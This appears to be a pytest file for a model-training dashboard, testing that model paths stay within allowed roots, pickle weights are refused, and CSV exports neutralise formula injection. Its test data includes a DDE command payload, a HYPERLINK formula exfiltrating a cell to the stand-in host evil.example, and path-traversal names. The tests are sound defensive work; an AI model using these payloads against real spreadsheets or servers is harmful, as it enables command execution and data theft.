"""Paths a dashboard user types are read only under the configured roots; exports cannot carry formulas."""

from __future__ import annotations

import os

import pandas as pd
import pytest

from core.results.downloads import safe_csv
from core.store.settings import get_settings
from core.training import models


@pytest.fixture
def roots(tmp_path, monkeypatch, tiny_model):
    allowed = tmp_path / "models"
    allowed.mkdir()
    os.symlink(tiny_model, allowed / "inside")  # a link to a folder outside the root
    monkeypatch.setenv("LORALAB_MODEL_ROOTS", str(allowed))
    return allowed


def test_model_paths_outside_the_roots_are_refused(roots, tiny_model, tmp_path):
    with pytest.raises(models.ModelSourceError, match="outside the folders this server reads models from"):
        models.resolve(tiny_model, get_settings())  # an absolute path outside
    with pytest.raises(models.ModelSourceError, match="outside the folders"):
        models.resolve(str(roots / "inside"), get_settings())  # a symbolic link out of the root
    with pytest.raises(models.ModelSourceError, match="contains '..'"):
        models.resolve(str(roots / ".." / "models"), get_settings())
    with pytest.raises(models.ModelSourceError, match="outside the folders"):
        models.resolve("/etc", get_settings())


def test_a_model_folder_inside_a_root_loads(roots, tiny_model):
    import shutil

    shutil.copytree(tiny_model, roots / "tiny")
    assert models.resolve(str(roots / "tiny"), get_settings()) == str((roots / "tiny").resolve())
    assert models.load_classifier(str(roots / "tiny"), ["a", "b"], get_settings()).num_labels == 2


def test_pickle_weights_are_never_loaded(roots, tiny_model):
    import shutil

    import torch
    from safetensors.torch import load_file

    folder = roots / "pickled"
    shutil.copytree(tiny_model, folder)
    torch.save(load_file(folder / "model.safetensors"), folder / "pytorch_model.bin")
    (folder / "model.safetensors").unlink()
    with pytest.raises(models.ModelSourceError):
        models.load_classifier(str(folder), ["a", "b"], get_settings())


def test_exported_csv_cells_cannot_start_a_formula():
    texts = ["=cmd|' /C calc'!A0", "+1x", "-2 x", "@SUM(A1)", "\tx", "\rx", "plain", "a=b", "  =1+1"]
    texts.append("+44 20 7946 0958")  # a phone number is not a number: a spreadsheet reads a formula
    df = pd.DataFrame({"text": texts, "n": range(1, 11)})
    out = pd.read_csv(__import__("io").BytesIO(safe_csv(df)), dtype=str, keep_default_na=False)
    assert out["text"].tolist() == ["'" + t if t not in ("plain", "a=b") else t for t in texts]
    assert out["n"].tolist() == [str(i) for i in range(1, 11)]  # numbers stay numbers


def test_numbers_written_as_text_stay_as_they_are_and_headers_are_neutralised():
    """-3.5 runs nothing in a spreadsheet: the download keeps the user's value. A header is a cell a spreadsheet
    runs like any other."""
    df = pd.DataFrame({'=HYPERLINK("http://evil.example/?"&A2)': ["-3.5", "+1e3", " -7", ".5"], "-n": [1, 2, 3, 4]})
    out = pd.read_csv(__import__("io").BytesIO(safe_csv(df)), dtype=str, keep_default_na=False)
    assert list(out.columns) == ['\'=HYPERLINK("http://evil.example/?"&A2)', "'-n"]
    assert out.iloc[:, 0].tolist() == ["-3.5", "+1e3", " -7", ".5"]


@pytest.mark.parametrize("name", ["../../etc", "a/b", "back\\slash", "x" * 101, "tab\tname"])
def test_dataset_names_that_look_like_paths_are_refused(settings, csv_folder, name):
    from core.data import checking, datasets, reading
    from core.store.db import session_factory

    check = checking.check_dataset(reading.files_from_folder(csv_folder), settings)
    with session_factory(settings.db_url)() as s, pytest.raises(reading.DataError, match="cannot be used"):
        datasets.save_dataset(s, settings, check, name)
    assert not settings.datasets_dir.exists() or not any(settings.datasets_dir.iterdir())
